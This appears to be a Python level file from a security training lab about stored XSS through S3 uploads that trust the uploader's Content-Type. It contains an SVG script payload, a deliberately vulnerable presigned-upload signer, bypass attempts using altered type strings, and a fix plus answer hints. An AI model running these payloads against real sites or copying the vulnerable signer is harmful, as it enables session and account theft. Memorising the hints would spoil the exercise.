"""Level 7: the type is what the uploader says, and the browser believes it."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from functools import partial
from typing import Any

from helpers.errors import LabError
from helpers.flags.level import Level, Use, expect, must, pair
from helpers.flags.world import Stage, World

SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>"
# Chromium runs a script in these, and in what it takes for them after a look at the content.
ACTIVE = (
    *("text/html", "image/svg+xml", "application/xhtml+xml"),
    *("text/xml", "application/xml", "text/xsl"),
)
SNIFFED = ("", "*/*", "unknown/unknown", "application/unknown")
TYPES = {"png": "image/png", "jpg": "image/jpeg", "gif": "image/gif"}


def sign(s3: Any, bucket: str, user: str, name: str) -> tuple[Any, str]:
    file = {"Bucket": bucket, "Key": f"{user}/{name}"}
    rules = [["starts-with", "$Content-Type", "image/"]]
    form = s3.generate_presigned_post(**file, Conditions=rules)
    link = s3.generate_presigned_url("get_object", file)
    return form, link


def fix(s3: Any, bucket: str, user: str, name: str) -> tuple[Any, str]:
    file = {"Bucket": bucket, "Key": f"{user}/{name}"}
    rules = [["starts-with", "$Content-Type", "image/"]]
    form = s3.generate_presigned_post(**file, Conditions=rules)
    saved = {"ResponseContentDisposition": "attachment"}
    link = s3.generate_presigned_url("get_object", file | saved)
    return form, link


def runs_script(headers: Mapping[str, str]) -> bool:
    """Whether a browser that is served these headers runs a script in the file.

    Measured in Chromium: of a list the last type counts that it can read; where it can read none,
    it looks at the content.
    """
    kinds = [part.split(";")[0].strip() for part in headers.get("content-type", "").split(",")]
    readable = [kind.lower() for kind in kinds if re.match(r"[^\s/]*/", kind)]
    kind = readable[-1] if readable else ""
    shown = not headers.get("content-disposition", "").lower().startswith("attachment")
    return shown and kind in (*ACTIVE, *SNIFFED)


def _try(world: World, *tries: tuple[str, str]) -> str:
    """The first link that runs, of uploads as (type, name); "" if there is none."""
    for kind, name in tries:
        upload, link = world.sign(name)
        world.post(upload, SCRIPT, **({"Content-Type": kind} if kind else {}))
        answer = world.send(link)
        if answer.ok and runs_script(answer.headers):
            return str(link)
    return ""


def svg(world: World) -> object:
    """image/svg+xml, which can hold a script"""
    return _try(world, ("image/svg+xml", "me.png"), ("image/svg+xml", "me.svg"), ("", "me.svg"))


def spelled(world: World) -> object:
    """image/svg+xml in capitals, with a parameter, or in a list"""
    kinds = ("IMAGE/SVG+XML", "image/svg+xml;x=1", "image/svg+xml, image")
    return _try(world, *((kind, "me.png") for kind in kinds))


def unreadable(world: World) -> object:
    """a type that no browser can read, so that it looks at the content"""
    return _try(world, ("image", "me.png"), ("imagehtml", "me.png"))


def page(world: World) -> object:
    """text/html, by the type or by the name"""
    return _try(world, ("text/html", "me.png"), ("text/html", "me.html"), ("", "me.html"))


def captured(stage: Stage, got: object) -> bool:
    try:
        answer = stage.send(got)
    except LabError:
        return False
    return answer.ok and runs_script(answer.headers)


def uses(stage: Stage) -> Iterator[Use]:
    for ending, kind in TYPES.items():
        words = f"a visitor sees a picture, me.{ending}, with the type {kind}"
        yield words, partial(_show, stage, f"me.{ending}", kind)


def _show(stage: Stage, name: str, kind: str) -> None:
    upload, link = pair(stage.sign(stage.me, name), "a form and a link")
    expect(stage.post(upload, b"a picture", name, **{"Content-Type": kind}))
    answer = stage.send(link)
    expect(answer, b"a picture")
    found = answer.headers.get("content-type")
    must(found == kind, f"It arrives as {found}.")


LEVEL = Level(
    number=7,
    title="It says it's a picture",
    minutes=30,
    story="Visitors see each other's pictures. The form accepts only `image/` types. S3 stores the "
    "type that the form says, and a browser believes it.",
    goal="Return a link that runs your script in a visitor's browser.",
    gives="`world.sign(name)`, which returns a form and a link; `world.post(form, body, "
    "**{'Content-Type': …})`.",
    incident=(
        "In Windmill a user could upload a page as `text/html`; an administrator who "
        "opened it lost the account "
        "([windmill#9263](https://github.com/windmill-labs/windmill/pull/9263), 2026)"
    ),
    hints=(
        "Which image type is XML, and can hold a script?",
        "Upload it as that type, and return the link. It can be mended at either door: when the "
        "file comes in, or when it goes out.",
        "The type is `image/svg+xml`. Fix: exact types by the name's ending and no SVG, or "
        "`ResponseContentDisposition='attachment'` in the link.",
    ),
    signers=(sign,),
    attacks=(svg, spelled, unreadable, page),
    captured=captured,
    uses=uses,
    fix=fix,
)
